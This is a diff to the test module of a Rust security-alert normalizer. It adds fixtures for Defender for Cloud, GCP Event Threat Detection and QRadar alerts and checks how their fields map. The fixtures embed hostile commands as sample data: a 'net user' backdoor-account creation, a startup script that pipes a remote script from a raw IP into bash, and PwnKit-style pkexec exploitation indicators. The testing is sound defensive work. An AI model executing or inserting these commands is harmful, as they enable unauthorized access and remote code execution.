@@ -6500,5 +6500,39 @@ mod tests {
                 {"path": "/usr/local/jamf/bin/jamf", "cmdline": "/usr/local/jamf/bin/jamf policy"}, {"path": "/sbin/launchd"}]}});
         let a = from_json(up, "x").unwrap();
         assert_eq!(get(&a, "process.entry_leader.name"), "jamf");
+        // Defender for Cloud's Run Command alert: the script is the process.
+        let ext = json!({"Script": "net user x P@ss /add", "Run Command Name": "RunPowerShellScript",
+            "Client Principal Name": "ext.r@t.onmicrosoft.com", "Client IP Address": "185.220.101.47"});
+        let rc = json!({"AlertName": "Suspicious Run Command usage", "SystemAlertId": "s2", "ProviderName": "Azure Security Center",
+            "ResourceId": "/subscriptions/1/resourceGroups/r/providers/Microsoft.Compute/virtualMachines/vm-erp-01",
+            "ExtendedProperties": ext.to_string(), "Entities": "[]"});
+        let a = from_json(rc, "x").unwrap();
+        assert_eq!(get(&a, "process.command_line"), "net user x P@ss /add");
+        assert_eq!(get(&a, "process.name"), "powershell.exe");
+        assert_eq!(get(&a, "host.name"), "vm-erp-01");
+        assert_eq!(get(&a, "source.ip"), "185.220.101.47");
+        // Event Threat Detection: a startup script added to an instance, run by its guest agent.
+        let etd = json!({"finding": {"name": "f1", "category": "Persistence: GCE Admin Added Startup Script",
+            "sourceProperties": {"properties": {"instanceName": "etl-3", "metadataKeyAdded": "startup-script",
+                "metadataValue": "#!/bin/bash\ncurl -fsSL http://194.26.29.113/l.sh | bash"}},
+            "access": {"principalEmail": "ci@p.iam.gserviceaccount.com", "callerIp": "113.161.72.58"}}});
+        let a = from_json(etd, "x").unwrap();
+        assert!(
+            get(&a, "process.command_line").contains("curl -fsSL http://194.26.29.113/l.sh | bash")
+        );
+        assert_eq!(
+            get(&a, "process.parent.name"),
+            "google_metadata_script_runner"
+        );
+        assert_eq!(get(&a, "user.name"), "root");
+        assert_eq!(get(&a, "host.name"), "etl-3");
+        // A QRadar row whose parser names the parent's argument count, account and environment.
+        let qr = json!({"qid": 1, "qidname_qid": "priv shell", "logsourcetypename_devicetype": "Linux OS",
+            "Parent Process Path": "/usr/bin/pkexec", "Parent Process Argument Count": "0", "Parent Process User": "tomcat",
+            "Parent Process Environment": "GCONV_PATH=./pwnkit; CHARSET=PWNKIT",
+            "UTF8(payload)": "type=SYSCALL msg=audit(1.5:9): syscall=59 ppid=2 pid=3 uid=0 euid=0 comm=\"sh\" exe=\"/usr/bin/bash\" type=EXECVE msg=audit(1.5:9): argc=1 a0=\"/bin/sh\""});
+        let a = from_json(json!({"events": [qr]}), "x").unwrap();
+        assert_eq!(a.doc["process"]["parent"]["args_count"], json!(0));
+        assert_eq!(get(&a, "process.parent.user.name"), "tomcat");
     }
 }
